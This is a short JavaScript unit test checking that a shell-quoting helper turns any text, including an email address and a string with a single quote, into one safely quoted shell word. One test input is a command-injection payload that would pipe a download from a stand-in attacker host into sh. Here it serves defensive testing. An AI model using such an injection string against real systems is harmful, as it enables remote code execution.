import assert from "node:assert/strict";
import { test } from "node:test";

import { shell } from "../js/snippets.js";

test("a text is one word of a shell, whatever is in it", () => {
    assert.equal(shell("ada@example.com"), "'ada@example.com'");
    assert.equal(shell(";{curl,evil.example}|sh;@b"), "';{curl,evil.example}|sh;@b'");
    assert.equal(shell("a'b"), "'a'\\''b'");
});
